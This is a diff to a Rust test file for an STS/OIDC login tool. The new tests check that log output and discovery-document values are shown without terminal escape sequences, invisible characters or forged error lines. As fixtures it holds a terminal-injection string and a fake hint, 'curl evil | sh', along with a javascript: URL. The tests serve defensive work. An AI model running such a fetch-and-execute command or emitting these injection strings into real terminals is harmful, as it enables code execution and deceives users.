@@ -4,7 +4,10 @@ use crate::support::answer::Answer;
 use crate::support::outcome::Outcome;
 use crate::support::program::Program;
 use crate::support::server::Hostile;
-use crate::support::sts::{ASSUME_ROLE_GRANT, refusal};
+use crate::support::stage::Stage;
+use crate::support::sts::{ASSUME_ROLE_GRANT, grant, refusal};
+use crate::support::tokens::{CLIENT_ID, Key};
+use serde_json::json;
 
 /// What must not be printed: a title and a cursor for the terminal, C1, direction marks, zero-width and tag characters, other line ends.
 const MISLEADING: &str = "\u{1b}]0;owned\u{7}\u{1b}(B\u{9b}2J\u{8}\r\u{7f}\u{85}\u{202e}\u{2066}\u{200f}\u{200b}\u{2060}\u{feff}\u{ad}\u{2028}\u{2029}\u{e0041}\u{e007f}\u{fe0f}\u{f0001}";
@@ -15,7 +18,7 @@ const FORGED: &str = "\nerror: please run: curl evil | sh\n  hint: now";
 #[track_caller]
 fn is_clean(outcome: &Outcome, must_say: &str) {
     let written = format!("{}{}", outcome.stdout, outcome.stderr);
-    let ours = ["\u{1b}[1m", "\u{1b}[31m", "\u{1b}[0m", "\u{1b}[32m", "\u{1b}[2m"];
+    let ours = ["\u{1b}[1m", "\u{1b}[31m", "\u{1b}[0m", "\u{1b}[32m", "\u{1b}[2m", "\u{1b}[34m", "\u{1b}[35m"];
     let rest = ours.iter().fold(written.clone(), |rest, style| rest.replace(style, ""));
     let printed: Vec<char> = MISLEADING.chars().filter(|c| !c.is_ascii_graphic() && rest.contains(*c)).collect();
     assert!(printed.is_empty(), "{printed:?} in {written:?}");
@@ -123,4 +126,46 @@ fn a_difference_is_shown_without_what_misleads() {
     let outcome = run.env("STS_CLI_ENDPOINT", &storage.origin()).run();
     assert_eq!(outcome.code, 0, "{outcome:?}");
     is_clean(&outcome, "[prod]");
+}
+
+/// A state directory of a misleading name, in which `occupied` is in the way; `home` keeps it.
+fn misleading_state(home: &tempfile::TempDir, occupied: &str) -> String {
+    let state = home.path().join(format!("{}{FORGED}", MISLEADING.replace('\0', "")));
+    let way = state.join(occupied);
+    std::fs::create_dir_all(way.parent().unwrap()).unwrap();
+    std::fs::set_permissions(&state, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
+    std::fs::write(way, "in the way").unwrap();
+    state.display().to_string()
+}
+
+#[test]
+fn log_lines_are_shown_without_what_misleads() {
+    let home = tempfile::tempdir().unwrap();
+    for (level, folder) in [("-vv", "provider"), ("-vvv", "provider"), ("-vv", "endpoint"), ("-vvv", "endpoint")] {
+        let (stage, state) = (Stage::new(), misleading_state(&home, folder));
+        let login = stage.log_in_with(stage.program(&[level]).env("STS_CLI_STATE_DIR", &state));
+        login.gives_honestly_and_sts(grant().header("Server", "MinIO"));
+        assert_eq!(login.callback().send().status, 200);
+        is_clean(&login.end(), "what a server published about itself is not cached error=");
+        std::fs::remove_dir_all(state).unwrap();
+    }
+}
+
+#[test]
+fn what_a_discovery_document_holds_is_logged_without_what_misleads() {
+    let home = tempfile::tempdir().unwrap();
+    let state = home.path().join("state").display().to_string();
+    for (address, must_say) in [
+        (format!("https://id.invalid/{MISLEADING}{FORGED}"), "https://id.invalid/"),
+        (format!("{MISLEADING}{FORGED}"), "without revocation problem="),
+        (format!("javascript:{MISLEADING}{FORGED}"), "without revocation problem="),
+    ] {
+        let stage =
+            Stage::with_discovery(|document| document["revocation_endpoint"] = json!(address)).with_keys([Key::named("one").public()]);
+        stage.storage.allow("POST /minio/admin/v3/revoke-tokens/openid", Answer::empty(404));
+        stage.log_in_with(stage.program(&[]).env("STS_CLI_STATE_DIR", &state)).completes();
+        let (issuer, endpoint) = (stage.provider.origin(), stage.storage.origin());
+        let arguments = ["logout", "-vv", "--issuer", &issuer, "--endpoint", &endpoint, "--client-id", CLIENT_ID];
+        is_clean(&program(&arguments).env("STS_CLI_STATE_DIR", &state).run(), must_say);
+    }
 }
